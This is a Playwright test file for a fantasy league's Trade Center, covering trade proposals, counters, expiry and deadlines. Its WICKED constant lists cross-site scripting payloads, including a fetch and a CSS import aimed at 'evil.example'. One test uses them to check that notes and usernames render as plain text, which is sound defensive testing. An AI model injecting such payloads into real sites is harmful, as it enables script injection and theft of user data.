import { expect, type Browser, type Locator, type Page } from '@playwright/test';
import { placeNameOf } from '#shared/domain/teams.ts';
import { Player } from '../support/player.ts';
import { draftOn, seatPlayers, startTable, type Table } from '../support/table.ts';
import { startSite, type LocalSite } from './local-site.ts';
import { lookAtSizes } from './look.ts';
import { message } from './parts.ts';
import { test } from './test.ts';
import { DESK, PHONE, windowOf, type Size } from './windows.ts';

// The Trade Center, in the windows of both sides.

/** Of the Sunday of week 6 the first games are over, others are to come. */
const MID_SEASON = '2025-10-12T18:00:00-04:00';
const DAY_MS = 86_400_000;
const OFFERS = '**/api/leagues/*/trades';

/** What a page that took words for markup, an address or a script would run. */
const WICKED = ['alert(1)', 'window.xss=1', 'fetch(`//evil.example`)', 'document.title=1'].flatMap((script) =>
  ['', ' ', '\n', '"', "'"].flatMap((before) => [
    `${before}<script>${script}</script>`,
    `${before}<img src=x onerror="${script}">`,
    `${before}<svg/onload=${script}>`,
    `${before}"><iframe src="javascript:${script}"></iframe>`,
    `${before}javascript:${script}`,
    `${before}<a href="javascript:${script}" autofocus onfocus="${script}">me</a>`,
    `${before}\${${script}}{{${script}}}`,
    `${before}<style>@import "//evil.example"</style><b onmouseover=${script}>b</b>`,
    `${before}<details open ontoggle=${script}>`,
    `${before}</p><object data="data:text/html,<script>${script}</script>"></object>`,
  ]),
);

let site: LocalSite;
let crew: Player[];
/** Ana has the teams 1, 8 and 9, Ben 2, 7 and 10, Cyd 3, 6 and 11, Dee 4, 5 and 12, until they trade. */
let table: Table;
/** Of the same four, who have the same teams there. */
let blocking: Table;
let late: Table;
let isMidSeason: boolean;

test.beforeAll(async () => {
  site = await startSite();
  crew = [];
  for (const name of ['Ana', 'Ben', 'Cyd', 'Dee']) crew.push(await Player.register(site.url, name));
  [table, blocking, late] = [
    await another('Season Crew'),
    await another('Block Crew'),
    await another('Late Crew'),
  ];
  isMidSeason = false;
});

test.afterAll(async () => {
  await site?.stop();
});

const [ana, ben, cyd] = [() => seated(0), () => seated(1), () => seated(2)];

function seated(place: number): Player {
  const player = crew[place];
  if (!player) throw new Error(`nobody sits at ${place}`);
  return player;
}

const card = (page: Page, name: string) => page.getByRole('region', { name, exact: true });
const trade = (page: Page, number: number) =>
  page.getByRole('article', { name: `Trade #${number}`, exact: true });
const press = (within: Page | Locator, name: string) =>
  within.getByRole('button', { name, exact: true }).press('Enter');
const dialogOf = (page: Page, name: string | RegExp) => page.getByRole('dialog', { name });

/** A drafted league of the same four. */
async function another(name: string): Promise<Table> {
  const made = await seatPlayers(crew, { name, maxMembers: 4 });
  await draftOn(made, await startTable(made));
  return made;
}

/** For the tests after the first: until then a draft may still be to come. */
async function playOn(): Promise<void> {
  if (!isMidSeason) await site.console('clock', { now: MID_SEASON });
  isMidSeason = true;
}

const offer = (by: Player, to: Player, give: number, get: number, more: object = {}, { params } = table) =>
  by.call('proposeTrade', {
    params,
    body: { receiverId: to.id, proposerTeamIds: [give], receiverTeamIds: [get], ...more },
  });

/** The Trade Center in a window of the player's. */
async function open(browser: Browser, player: Player, size?: Size, { league } = table): Promise<Page> {
  const page = await windowOf(browser, player, size);
  await page.goto(`/leagues/${league.code}/trades`);
  await expect(page.getByRole('heading', { name: 'Trade Center' })).toBeVisible();
  return page;
}

async function teamsOf(player: Player, { params } = table): Promise<number[]> {
  const teams = await player.call('userTeams', { params });
  return teams.map(({ nflTeam }) => nflTeam.id).toSorted((a, b) => a - b);
}

test('before the draft the page says when trading begins', async ({ browser }) => {
  const waiting = await seatPlayers(crew, { name: 'Waiting Crew', maxMembers: 4 });
  const page = await open(browser, ana(), PHONE, waiting);
  await expect(page.getByText('Trades begin after the draft')).toBeVisible();
  await expect(page.getByRole('button', { name: 'Propose a Trade' })).toHaveCount(0);
  await lookAtSizes(page, 'trades-before-draft');
  await page.getByRole('link', { name: 'Return to League' }).click();
  await expect(page).toHaveURL(`/leagues/${waiting.league.code}`);
  await expect(page.getByRole('link', { name: 'Trades' })).toHaveCount(0);
});

test('an offer is put together by keyboard, reaches the other window, and is accepted there', async ({
  browser,
}) => {
  await playOn();
  const [anas, bens] = [await open(browser, ana(), DESK), await open(browser, ben(), PHONE)];
  await expect(anas.getByText('No active trades')).toBeVisible();
  await expect(bens.getByText('No active trades')).toBeVisible();
  await press(anas, 'Propose a Trade');
  const dialog = dialogOf(anas, 'Propose a Trade');
  const who = dialog.getByLabel('Trade With');
  await expect(who).toBeFocused();
  await press(dialog, 'Propose Trade');
  await expect(message(anas, 'Error')).toContainText('Please select all required fields');
  await expect(who).toBeFocused();
  await anas.keyboard.type('Be');
  await expect(who).toHaveValue(ben().id);
  await anas.keyboard.press('Tab');
  await anas.keyboard.press('Space');
  const mine = dialog.getByRole('radiogroup', { name: 'Your Team to Trade' });
  await expect(mine.getByRole('radio', { name: placeNameOf(1) })).toBeChecked();
  await press(dialog, 'Propose Trade');
  await expect(message(anas, 'Error')).toContainText('Please select all required fields');
  const theirs = dialog.getByRole('radiogroup', { name: 'Ben’s Team' });
  await expect(theirs).toBeFocused();
  await theirs.getByRole('radio', { name: placeNameOf(2) }).press('Space');
  const words = dialog.locator('dl > div');
  await expect(words.filter({ hasText: 'You Give' })).toContainText(placeNameOf(1));
  await expect(words.filter({ hasText: 'You Get' })).toContainText(/\d+–\d+.*Week \d+: (vs|at) \w+|no game/);
  const odds = dialog.getByRole('table').getByRole('row');
  await expect(odds.filter({ hasText: 'Ana (You)' }).getByRole('cell')).toHaveText([
    / to .*\(.\d+\)/,
    / to /,
  ]);
  await expect(odds.filter({ hasText: 'Ben' }).getByRole('cell')).toHaveCount(2);
  await dialog.getByLabel('Note').fill('Deal?\nYou know that you want it.');
  await dialog.getByLabel('Expires').selectOption('After 3 days');
  await lookAtSizes(anas, 'propose-trade', '[role=dialog]');
  await press(dialog, 'Propose Trade');
  await expect(message(anas, 'Trade Proposed!')).toContainText('Trade #1 waits for Ben');
  await expect(dialog).toHaveCount(0);
  await expect(anas.getByRole('button', { name: 'Propose a Trade' })).toBeFocused();

  for (const page of [anas, bens]) {
    await expect(trade(page, 1)).toContainText(/Pending.*Ana.*offers.*for.*Ben.*’s/);
    await expect(trade(page, 1)).toContainText(/Proposed: \w{3}, Oct 12, .* ET/);
    await expect(trade(page, 1)).toContainText('Expires in 3 days');
    await expect(trade(page, 1)).toContainText('You know that you want it.');
  }
  await expect(trade(anas, 1).getByRole('button')).toHaveText(['Cancel']);
  await expect(trade(bens, 1).getByRole('button', { name: 'Report Ana' })).toBeVisible();
  await expect(trade(bens, 1).getByRole('button')).toHaveText(['', 'Accept', 'Reject', 'Counter']);
  await lookAtSizes(bens, 'trades');
  const cyds = await open(browser, cyd(), PHONE);
  await expect(cyds.getByText('No active trades')).toBeVisible();

  await offer(cyd(), ben(), 3, 2);
  await expect(trade(bens, 2)).toBeVisible();
  await press(trade(bens, 1), 'Accept');
  const sure = bens.getByRole('alertdialog', { name: 'Accept Trade #1?' });
  await expect(sure).toContainText('of yours Trade #2');
  await expect(sure.getByRole('row').filter({ hasText: 'Ben (You)' })).toBeVisible();
  await lookAtSizes(bens, 'accept-trade', '[role=alertdialog]');
  await press(sure, 'Accept Trade');
  await expect(message(bens, 'Trade Updated')).toContainText('Trade accepted! Teams have been swapped.');
  await expect(sure).toHaveCount(0);
  for (const page of [anas, bens, cyds]) await expect(page.getByText('No active trades')).toBeVisible();
  expect([await teamsOf(ana()), await teamsOf(ben())]).toEqual([
    [2, 8, 9],
    [1, 7, 10],
  ]);
  const own = card(anas, 'Trade Block').getByRole('group', { name: 'Your teams' });
  await expect(own.getByRole('button', { name: placeNameOf(2) })).toBeVisible();
  await cyds.getByRole('tab', { name: 'Active Trades' }).press('ArrowRight');
  await expect(trade(cyds, 1)).toContainText('Accepted');
  await expect(trade(cyds, 2)).toContainText('Cancelled');
  await anas.getByRole('tab', { name: 'Trade History' }).click();
  await expect(anas.getByRole('article')).toHaveCount(1);
  await lookAtSizes(anas, 'trade-history');
});

test('an offer is countered, the counter rejected; another is cancelled', async ({ browser }) => {
  await playOn();
  const { leagueTradeNumber: number } = await offer(ana(), ben(), 8, 7);
  const [anas, bens] = [await open(browser, ana(), PHONE), await open(browser, ben(), DESK)];
  await press(trade(bens, number), 'Counter');
  const dialog = dialogOf(bens, `Counter Trade #${number}`);
  await expect(dialog).toContainText('Trade With Ana');
  await expect(dialog.getByRole('radio', { name: placeNameOf(7) })).toBeChecked();
  await expect(dialog.getByRole('radio', { name: placeNameOf(8) })).toBeChecked();
  await dialog.getByRole('radio', { name: placeNameOf(9) }).check();
  await lookAtSizes(bens, 'counter-trade', '[role=dialog]');
  await press(dialog, 'Propose Trade');
  await expect(message(bens, 'Trade Proposed!')).toContainText(`Trade #${number} is rejected`);
  const counter = trade(anas, number + 1);
  await expect(counter).toContainText(`Counters Trade #${number}`);
  await expect(trade(anas, number)).toHaveCount(0);
  await press(counter, 'Reject');
  await expect(message(anas, 'Trade Updated')).toContainText('Trade rejected.');
  await expect(anas.getByRole('main')).toBeFocused();
  await expect(trade(bens, number + 1)).toHaveCount(0);
  await bens.getByRole('tab', { name: 'Trade History' }).click();
  await expect(trade(bens, number)).toContainText(`Countered by Trade #${number + 1}`);
  await expect(trade(bens, number + 1)).toContainText('Rejected');

  await offer(ana(), ben(), 8, 7);
  await press(trade(anas, number + 2), 'Cancel');
  await expect(message(anas, 'Trade Updated')).toContainText('Trade cancelled.');
  await expect(anas.getByText('No active trades')).toBeVisible();
  await expect(trade(bens, number + 2)).toContainText('Cancelled');
});

test('a pending trade is the next step of who received it, and a mark of the block is seen in the league', async ({
  browser,
}) => {
  await playOn();
  const home = `/leagues/${blocking.league.code}`;
  const [anas, bens] = [await windowOf(browser, ana(), DESK), await open(browser, ben(), PHONE, blocking)];
  await anas.goto(home);
  const next = anas.getByRole('region', { name: 'Next step' });
  await expect(next).toContainText('The season is on');
  const { leagueTradeNumber: number } = await offer(ben(), ana(), 2, 1, {}, blocking);
  await expect(next).toContainText('Ben offers you a trade');
  await expect(next).toContainText(`${placeNameOf(2)} for your ${placeNameOf(1)}.`);

  const mark = (within: Page | Locator) => within.getByRole('img', { name: 'On the trade block' });
  await expect(mark(anas)).toHaveCount(0);
  const marking = card(bens, 'Trade Block').getByRole('button', { name: placeNameOf(7) });
  await marking.press('Enter');
  await expect(marking).toHaveAttribute('aria-pressed', 'true');
  await expect(mark(anas)).toHaveCount(1);
  await lookAtSizes(anas, 'league-home-offered');
  await next.getByRole('link', { name: 'Open Trade Center' }).click();
  await expect(trade(anas, number)).toBeVisible();
  await card(anas, 'Trade Block')
    .getByRole('button', { name: placeNameOf(7) })
    .click();
  const dialog = dialogOf(anas, 'Propose a Trade');
  await expect(dialog.getByLabel('Trade With')).toHaveValue(ben().id);
  await expect(dialog.getByRole('radio', { name: placeNameOf(7) })).toBeChecked();
  await expect(mark(dialog)).toHaveCount(1);
  await anas.keyboard.press('Escape');

  await anas.goto(`${home}/standings`);
  await expect(mark(anas)).toHaveCount(1);
  const row = anas
    .getByRole('table', { name: /^Standings/ })
    .getByRole('row')
    .filter({ hasText: 'Ana (You)' });
  await expect(row.getByRole('img', { name: placeNameOf(1) })).toBeVisible();
  await lookAtSizes(anas, 'standings-block');
  // What is accepted elsewhere is there without a reload.
  const params = { tradeId: `${blocking.league.id}-${number}` };
  await ana().call('answerTrade', { params, body: { action: 'accept' } });
  await expect(row.getByRole('img', { name: placeNameOf(2) })).toBeVisible();
  await anas.getByRole('link', { name: 'Propose Trade' }).click();
  await expect(anas).toHaveURL(`${home}/trades`);
});

test('what members write in notes and names is text, whatever it is', async ({ browser }) => {
  await playOn();
  const made = await offer(cyd(), seated(3), 3, 4, { note: WICKED[0] });
  const page = await windowOf(browser, cyd(), DESK);
  const wrong: string[] = [];
  page.on('dialog', (opened) => {
    wrong.push(opened.message());
    void opened.dismiss();
  });
  page.on('console', (line) => line.text().includes('Content Security Policy') && wrong.push(line.text()));
  page.on('pageerror', (error) => wrong.push(error.message));
  const wicked = WICKED.map((note, index) => ({
    ...made,
    id: `${made.leagueId}-${index + 1}`,
    leagueTradeNumber: index + 1,
    note,
    receiver: { ...made.receiver, username: note },
  }));
  await page.route(OFFERS, (route) => route.fulfill({ json: wicked }));
  await page.goto(`/leagues/${table.league.code}/trades`);
  await expect(page.getByRole('article')).toHaveCount(WICKED.length);
  for (const [index, note] of WICKED.entries())
    expect(await trade(page, index + 1).textContent()).toContain(`Note: ${note}`);
  await expect(
    page.getByRole('article').locator('script, iframe, object, embed, img:not([role])'),
  ).toHaveCount(0);
  await page.evaluate(() => 'xss' in window).then((isIn) => expect(isIn).toBe(false));
  expect(wrong).toEqual([]);
  const params = { tradeId: made.id };
  await cyd().call('answerTrade', { params, body: { action: 'cancel' } });
});

test('a mark that is refused is taken back', async ({ browser }) => {
  await playOn();
  const page = await open(browser, cyd(), DESK);
  const marking = card(page, 'Trade Block').getByRole('button', { name: placeNameOf(6) });
  await expect(marking).toHaveAttribute('aria-pressed', 'false');
  let answer = (): void => undefined;
  const isAnswered = new Promise<void>((resolve) => (answer = resolve));
  await page.route('**/trade-block', async (route) => {
    await isAnswered;
    await route.fulfill({ status: 503, json: { code: 'any', message: 'In the server’s words.' } });
  });
  await marking.click();
  await expect(marking).toHaveAttribute('aria-pressed', 'true');
  answer();
  await expect(message(page, 'Error')).toContainText('In the server’s words.');
  await expect(marking).toHaveAttribute('aria-pressed', 'false');
});

test('the odds of an offer say when they cannot be had, and come when they are asked for again', async ({
  browser,
}) => {
  await playOn();
  const page = await open(browser, cyd(), PHONE);
  await page.route('**/odds?give=*', (route) => route.fulfill({ status: 503, json: {} }));
  await press(page, 'Propose a Trade');
  const dialog = dialogOf(page, 'Propose a Trade');
  await dialog.getByLabel('Trade With').selectOption('Dee');
  await dialog.getByRole('radio', { name: placeNameOf(6) }).check();
  await dialog.getByRole('radio', { name: placeNameOf(5) }).check();
  const odds = dialog.getByRole('region', { name: 'Crown Odds' });
  await expect(odds.getByRole('alert')).toContainText('The odds could not be loaded.');
  await lookAtSizes(page, 'propose-without-odds', '[role=dialog]');
  await page.unroute('**/odds?give=*');
  await press(odds, 'Try again');
  await expect(odds.getByRole('cell')).toHaveCount(4);
});

test('an offer whose reply was lost is made once', async ({ browser }) => {
  await playOn();
  const page = await open(browser, cyd(), DESK);
  await press(page, 'Propose a Trade');
  const dialog = dialogOf(page, 'Propose a Trade');
  await dialog.getByLabel('Trade With').selectOption('Dee');
  await dialog.getByRole('radio', { name: placeNameOf(6) }).check();
  await dialog.getByRole('radio', { name: placeNameOf(5) }).check();
  await page.route(
    '**/trades',
    async (route) => {
      await route.fetch();
      await route.abort();
    },
    { times: 1 },
  );
  await press(dialog, 'Propose Trade');
  await expect(message(page, 'Error')).toContainText('No connection to the server.');
  await press(dialog, 'Propose Trade');
  await expect(message(page, 'Trade Proposed!')).toBeVisible();
  await expect(page.getByRole('article')).toHaveCount(1);
  // What somebody else was offered meanwhile is refused in the server's words, where the offer is put together.
  await press(page, 'Propose a Trade');
  await dialog.getByLabel('Trade With').selectOption('Dee');
  await dialog.getByRole('radio', { name: placeNameOf(6) }).check();
  await dialog.getByRole('radio', { name: placeNameOf(5) }).check();
  await press(dialog, 'Propose Trade');
  await expect(message(page, 'Error')).toContainText('You have already offered this trade.');
  await expect(dialog).toBeVisible();
  await press(dialog, 'Cancel');
  await press(page.getByRole('article'), 'Cancel');
  await expect(page.getByText('No active trades')).toBeVisible();
});

test('an offer expires on the open page, and after the deadline nothing is traded any more', async ({
  browser,
}) => {
  await playOn();
  const now = Date.parse((await ana().call('draftDeadlineStatus')).serverTime);
  const day = new Date(now + 3 * DAY_MS).toISOString().slice(0, 10);
  const { currentSeason } = await ana().call('changeDraftSettings', {
    params: late.params,
    body: { tradeDeadline: day },
  });
  const short = await offer(ana(), ben(), 1, 2, { expiresInDays: 1 }, late);
  const long = await offer(ana(), ben(), 8, 7, { expiresInDays: 14 }, late);
  const page = await open(browser, ben(), PHONE, late);
  await expect(trade(page, short.leagueTradeNumber)).toContainText(/Expires in \d+ hours|Expires in 1 day/);
  await expect(trade(page, long.leagueTradeNumber)).toContainText('Expires at the trade deadline');
  await expect(card(page, 'Trade Deadline')).toContainText('Teams may be traded until');
  await site.console('clock', { now: new Date(now + DAY_MS + 60_000).toISOString() });
  await expect(trade(page, short.leagueTradeNumber)).toHaveCount(0);
  await press(page, 'Propose a Trade');
  const dialog = dialogOf(page, 'Propose a Trade');
  await dialog.getByLabel('Trade With').selectOption('Ana');
  await dialog.getByRole('radio', { name: placeNameOf(2) }).check();
  await dialog.getByRole('radio', { name: placeNameOf(1) }).check();
  await site.console('clock', {
    now: new Date(Date.parse(currentSeason.tradeDeadline ?? '') + 60_000).toISOString(),
  });
  await press(dialog, 'Propose Trade');
  await expect(message(page, 'Error')).toContainText('The trade deadline has passed.');
  await press(dialog, 'Cancel');
  await expect(page.getByText('No active trades')).toBeVisible();
  await page.reload();
  await expect(card(page, 'Trade Deadline').getByText('Expired', { exact: true })).toBeVisible();
  await expect(card(page, 'Trade Deadline')).toContainText('The trade deadline was');
  await expect(page.getByRole('button', { name: 'Propose a Trade' })).toHaveCount(0);
  await page.getByRole('tab', { name: 'Trade History' }).click();
  await expect(page.getByRole('article')).toHaveCount(2);
  await expect(trade(page, long.leagueTradeNumber)).toContainText('Expired');
  await lookAtSizes(page, 'trades-expired');
  await page.goto(`/leagues/${late.league.code}`);
  const facts = page.getByRole('region', { name: 'League Information' });
  await expect(facts.locator('div').filter({ hasText: 'Trade deadline' }).last()).toContainText('Expired');
});
